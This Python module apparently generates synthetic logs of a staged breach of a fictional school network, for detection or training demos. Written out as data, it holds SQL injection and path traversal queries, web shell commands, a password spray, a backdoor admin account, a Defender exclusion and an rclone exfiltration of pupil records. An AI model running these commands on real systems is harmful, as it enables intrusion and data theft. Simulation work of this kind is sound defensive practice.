"""The school's web server is taken over, and pupils' records are carried out."""

from deploy.demo import lines
from deploy.demo.attacks.script import Script
from deploy.demo.city import POWERSHELL_EXE, SCHOOL, WINDOWS
from deploy.demo.office import digest

BEGINS = -7_800.0
ADDRESS = "203.0.113.140"
WEB = SCHOOL.host("web01")
DC = SCHOOL.host("dc01")
FILES = SCHOOL.host("fs01")
FIREWALL = SCHOOL.host("fw01")
SHELL = "/uploads/badge.aspx"
POOL = "IIS APPPOOL\\Parents"
ADMIN = "NORTHGATE\\it.support"
SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PROBES = ("/.env", "/.git/config", "/phpinfo.php", "/backup.zip", "/admin/", "/server-status")
LEAVERS = ("s.oldroyd", "t.pemberley")
"""Accounts that were switched off, still on an attacker's list."""


def web_shell() -> Script:
    """Scan, injection, upload, shell, spraying, new administrator, data out."""
    script = Script(BEGINS)
    _scan(script)
    script.wait(200)
    _upload_shell(script)
    script.wait(240)
    _spray_passwords(script)
    script.wait(300)
    _make_administrator(script)
    script.wait(600)
    _carry_data_out(script)
    return script


def _scan(script: Script) -> None:
    for path in PROBES:
        for request in (f"GET {path}", f"HEAD {path}"):
            script.log("school", "web", lines.access(ADDRESS, request, 404, 0, agent=SCANNER))
            script.wait(1.2)
    for query, size in (("id=114'", 310), ("id=114+union+select+user,pass+from+parents", 22_410)):
        script.log(
            "school", "web",
            lines.access(ADDRESS, f"GET /news?{query}", 200, size, agent=BROWSER),
        )  # fmt: skip
    traversal = "GET /policies/view?file=../../../windows/win.ini"
    script.log("school", "web", lines.access(ADDRESS, traversal, 200, 92, agent=BROWSER))


def _upload_shell(script: Script) -> None:
    w3wp, cmd = WINDOWS + "inetsrv\\w3wp.exe", WINDOWS + "cmd.exe"
    script.log(
        "school", "web",
        lines.access(ADDRESS, "POST /parents/badge-upload.aspx", 200, 118, agent=BROWSER),
    )  # fmt: skip
    script.log(
        "school", "windows",
        lines.windows(
            lines.SYSMON, 11, WEB, User=POOL, Image=w3wp,
            TargetFilename="C:\\inetpub\\wwwroot\\uploads\\badge.aspx",
        ),
    )  # fmt: skip
    for command in ("whoami+/all", "ipconfig+/all", "net+user+/domain", "net+view"):
        script.wait(15)
        script.log(
            "school", "web",
            lines.access(ADDRESS, f"GET {SHELL}?cmd={command}", 200, 940, agent=BROWSER),
        )  # fmt: skip
        script.log(
            "school", "windows",
            lines.process(
                WEB, POOL, cmd, f"cmd.exe /c {command.replace('+', ' ')}", w3wp, Hashes=digest(cmd)
            ),
        )  # fmt: skip
    whoami = WINDOWS + "whoami.exe"
    script.log(
        "school", "windows",
        lines.process(WEB, POOL, whoami, "whoami /all", cmd, Hashes=digest(whoami)),
    )  # fmt: skip


def _spray_passwords(script: Script) -> None:
    source = SCHOOL.server_address("web01")
    for name in (*SCHOOL.people, *LEAVERS, *SCHOOL.people, "it.support"):
        disabled = name in LEAVERS
        script.log(
            "school", "windows",
            lines.windows(
                lines.SECURITY, 4625, DC, TargetUserName=name, TargetDomainName="NORTHGATE",
                LogonType="3", IpAddress=source, Status="0xc000006d", WorkstationName="NGS-WEB01",
                SubStatus="0xc0000072" if disabled else "0xc000006a",
            ),
        )  # fmt: skip
        script.wait(2)
    script.log(
        "school", "windows",
        lines.windows(
            lines.SECURITY, 4624, DC, TargetUserName="it.support", TargetDomainName="NORTHGATE",
            LogonType="3", IpAddress=source, WorkstationName="NGS-WEB01",
        ),
    )  # fmt: skip


def _make_administrator(script: Script) -> None:
    net1 = WINDOWS + "net1.exe"
    net = WINDOWS + "net.exe"
    script.log(
        "school", "windows",
        lines.process(
            WEB, ADMIN, net1, "net1 user printsvc Aut0mn!26 /add", net, Hashes=digest(net1)
        ),
        lines.windows(
            lines.SECURITY, 4720, WEB, TargetUserName="printsvc", SubjectUserName="it.support"
        ),
        lines.process(
            WEB, ADMIN, net1, "net1 localgroup administrators printsvc /add", net,
            Hashes=digest(net1),
        ),
        lines.windows(
            lines.SECURITY, 4732, WEB, TargetUserName="Administrators", MemberName="-",
            MemberSid="S-1-5-21-880-1017", SubjectUserName="it.support",
        ),
    )  # fmt: skip
    script.wait(120)
    script.log(
        "school", "firewall",
        lines.firewall(
            FIREWALL, "allow", src_ip=ADDRESS, src_port=61_022, dst_ip="10.30.0.11",
            dst_port=3389, protocol="TCP", sent_bytes=410_220, recv_bytes=1_200_400,
            rule="in-web01",
        ),
    )  # fmt: skip
    script.log(
        "school", "windows",
        lines.windows(
            lines.SECURITY, 4624, WEB, TargetUserName="printsvc", TargetDomainName="NGS-WEB01",
            LogonType="10", IpAddress=ADDRESS, WorkstationName="NGS-WEB01",
        ),
    )  # fmt: skip


def _carry_data_out(script: Script) -> None:
    packer, copier = "C:\\Program Files\\7-Zip\\7z.exe", "C:\\ProgramData\\svhost.exe"
    script.log(
        "school", "windows",
        lines.process(
            FILES, ADMIN, POWERSHELL_EXE,
            "powershell Add-MpPreference -ExclusionPath C:\\ProgramData",
            WINDOWS + "cmd.exe", Hashes=digest(POWERSHELL_EXE),
        ),
        lines.process(
            FILES, ADMIN, packer, "7z.exe a C:\\ProgramData\\p.7z -pR4in D:\\Shared\\Pupils",
            WINDOWS + "cmd.exe", Hashes=digest(packer),
        ),
        lines.process(
            FILES, ADMIN, copier, "svhost.exe copy C:\\ProgramData\\p.7z mega:in",
            WINDOWS + "cmd.exe", OriginalFileName="rclone.exe", Hashes=digest("rclone.exe"),
        ),
    )  # fmt: skip
    script.wait(300)
    script.log(
        "school", "firewall",
        lines.firewall(
            FIREWALL, "allow", src_ip=SCHOOL.server_address("fs01"), src_port=58_110,
            dst_ip="198.51.100.77", dst_port=443, protocol="TCP",
            sent_bytes=6_442_450_944, recv_bytes=2_201_100, rule="out-web",
        ),
    )  # fmt: skip
